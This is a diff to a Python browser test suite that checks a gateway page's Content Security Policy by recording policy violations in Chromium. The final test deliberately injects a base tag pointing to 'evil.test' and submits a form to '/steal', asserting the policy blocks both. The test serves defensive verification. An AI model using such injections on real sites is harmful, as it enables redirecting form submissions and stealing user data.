@@ -14,6 +14,7 @@ from typing import Any
 import aiohttp
 import pytest
 
+from tests.e2e.gateway import command, variables_of
 from tests.e2e.process import START_SECONDS
 from tests.e2e.test_gateway_contract import opened_stage
 from tests.waiting import until_seen
@@ -21,6 +22,11 @@ from tests.waiting import until_seen
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
 
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: nothing to test with")
+
+
+#: Keeps what the page's own policy keeps it from doing.
+VIOLATIONS = """window.violations = [];
+document.addEventListener("securitypolicyviolation", event => violations.push(event.violatedDirective));"""
 
 
 class Page:
@@ -60,6 +66,8 @@ async def opened(url: str, profile: Path) -> AsyncIterator[Page]:
     try:
         async with aiohttp.ClientSession() as session, session.ws_connect(await _tab(session, port)) as connection:
             page = Page(connection)
+            await page.call("Page.enable")
+            await page.call("Page.addScriptToEvaluateOnNewDocument", source=VIOLATIONS)
             await page.call("Page.navigate", url=url)
             yield page
     finally:
@@ -91,3 +99,20 @@ async def test_a_message_is_answered_and_its_cost_is_told(tmp_path: Path) -> Non
         facts = await page.value_of("facts.innerText")
         assert "hosted" in facts
         assert stage.key not in await page.value_of("document.body.innerText + location.href")
+        assert await page.value_of("live.hidden"), "figures of all organisations are not for a caller"
+        assert await page.value_of("violations.join()") == ""
+
+
+async def test_a_viewer_sees_the_figures_and_the_policy_holds_what_the_page_does_not_need(tmp_path: Path) -> None:
+    async with opened_stage(tmp_path) as stage, opened(f"{stage.address}/", tmp_path / "profile") as page:
+        viewer = await command("keys", "create", "acme", "--role", "viewer", **variables_of(stage.gateway.directory))
+        await page.until("document.querySelector('#answer.failed')?.textContent")
+        await page.value_of(f"key.value = {json.dumps(viewer)}; key.dispatchEvent(new Event('change'))")
+        await page.until("!live.hidden && sums.children.length")
+        assert "Answers since the start" in await page.value_of("sums.innerText")
+        assert await page.value_of("violations.join()") == ""
+        await page.value_of(
+            "document.head.append(Object.assign(document.createElement('base'), {href: '//evil.test'}))"
+        )
+        await page.value_of("HTMLFormElement.prototype.submit.call(Object.assign($('ask'), {action: '/steal'}))")
+        await page.until("violations.includes('base-uri') && violations.includes('form-action')")
